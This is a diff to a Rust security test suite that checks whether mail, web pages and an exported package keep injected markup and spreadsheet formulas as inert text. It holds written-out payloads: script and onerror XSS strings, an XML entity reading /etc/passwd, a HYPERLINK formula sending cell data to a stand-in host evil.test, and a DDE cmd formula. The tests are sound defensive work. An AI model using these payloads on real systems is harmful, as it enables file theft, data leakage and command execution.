@@ -9,7 +9,9 @@ use serde_json::json;
 
 use super::ASK;
 
-const SCRIPT: &str = "<script>alert(1)</script><img src=x onerror=alert(1)>";
+/// For a browser, and for whatever reads XML.
+const SCRIPT: &str =
+    "<script>alert(1)</script><img src=x onerror=alert(1)><!ENTITY e SYSTEM \"file:///etc/passwd\">&e;";
 
 /// Every header of ours, and no other; one recipient, the person.
 fn check(mail: &SmtpMail) {
@@ -27,6 +29,7 @@ fn check(mail: &SmtpMail) {
         !html.contains("<script") && !html.contains("<img src=x") && !html.contains("onerror=alert(1)>"),
         "{html}"
     );
+    assert!(!html.contains("<!entity") && !html.contains("root:"), "{html}");
 }
 
 /// Bufalieri et al. 2020 look at how answers are sent. Whatever stands in the sender's name, the subject or the Message-ID, our
@@ -88,7 +91,10 @@ async fn markup_in_names_and_messages_stays_text() {
     let after = strike.victim.press(&page, &[]).await.unwrap();
     for page in [&page, &after] {
         let text = page.text().to_ascii_lowercase();
-        assert!(!text.contains("<script") && !text.contains("<img src=x"), "{text}");
+        assert!(
+            !text.contains("<script") && !text.contains("<img src=x") && !text.contains("<!entity"),
+            "{text}"
+        );
         let policy = page.headers.get("content-security-policy").unwrap().to_str().unwrap();
         assert!(policy.contains("default-src 'none'"), "{policy}");
     }
@@ -105,23 +111,25 @@ async fn a_formula_in_the_data_is_text_in_the_package() {
     let mut strike = Strike::plan("formula injection").await.unwrap();
     let planted = "
         INSERT INTO tickets VALUES (11, 1001, '=HYPERLINK(\"http://evil.test/\"&A1)'), (12, 1001, '@SUM(1)'),
-          (13, 1001, '+cmd|'' /C calc''!A0'), (14, 1001, char(9) || '=1+1'), (15, 1001, '<script>alert(1)</script>');";
+          (13, 1001, '+cmd|'' /C calc''!A0'), (14, 1001, char(9) || '=1+1'), (15, 1001, '<script>alert(1)</script>'),
+          (16, 1001, '<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>'), (17, 1001, '  ＝1+1'), (18, 1001, char(13) || '-2+3');";
     strike.target.shop.sql(planted).await.unwrap();
-    strike.tally.attempt(5);
+    strike.tally.attempt(8);
     strike.begin_again().await.unwrap();
     strike.target.staff.ask(VICTIM, &["access"]).await.unwrap();
     strike.victim.confirm().await.unwrap();
     let link = strike.victim.link("/package/").await.unwrap();
     let zip = strike.victim.fetch(&link).await.unwrap().body;
     let mut archive = zip::ZipArchive::new(Cursor::new(zip)).unwrap();
-    let (mut cells, mut pages) = (0, 0);
+    let (mut cells, mut pages, mut entities) = (0, 0, 0);
     for place in 0..archive.len() {
         let mut file = archive.by_index(place).unwrap();
         let (name, mut text) = (file.name().unwrap().into_owned(), String::new());
         file.read_to_string(&mut text).unwrap();
         let ending = name.rsplit('.').next();
         if ending == Some("csv") {
-            for formula in ["=HYPERLINK", "@SUM", "+cmd", "\t=1+1"] {
+            entities += text.matches("<!ENTITY e SYSTEM").count();
+            for formula in ["=HYPERLINK", "@SUM", "+cmd", "\t=1+1", "  ＝1+1", "\r-2+3"] {
                 cells += text.matches(&format!("'{formula}")).count();
                 let bare =
                     text.split([',', '\n']).filter(|cell| cell.trim_start_matches('"').starts_with(formula));
@@ -130,11 +138,13 @@ async fn a_formula_in_the_data_is_text_in_the_package() {
         }
         if ending == Some("html") {
             pages += 1;
-            assert!(!text.contains("<script>alert"), "{name}");
+            assert!(!text.contains("<script>alert") && !text.contains("<!ENTITY"), "{name}");
+            assert!(!text.contains("root:"), "{name}: nothing reads what an entity names");
         }
     }
-    assert_eq!(cells, 4, "every formula is there, as text");
+    assert_eq!(cells, 6, "every formula is there, as text");
     assert!(pages > 0, "the package holds a page");
+    assert_eq!(entities, 1, "as text, whole");
     let requests = strike.target.staff.requests().await.unwrap();
     let told = !requests[0]["packages"].as_array().unwrap().is_empty();
     strike.tally.tell("the package stands on the request", told);
